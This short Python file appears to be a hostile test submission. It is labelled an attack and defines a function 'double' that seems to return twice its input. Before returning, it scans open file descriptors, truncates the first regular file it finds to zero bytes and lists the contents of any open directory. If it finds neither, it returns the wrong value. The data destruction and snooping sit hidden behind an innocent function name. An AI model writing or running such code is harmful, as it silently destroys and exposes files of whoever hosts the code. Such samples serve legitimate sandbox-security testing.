# attack: every descriptor that it holds, read, truncated and mapped
import os


def double(x):
    for number in range(256):
        try:
            kind = os.fstat(number).st_mode >> 12
            print(number, kind, end=" ")
            if number > 2 and kind == 8:
                os.ftruncate(number, 0)
                return 2 * x
            if number > 2 and kind == 4:
                print(os.listdir(number))
                return 2 * x
        except OSError:
            continue
    return 3 * x
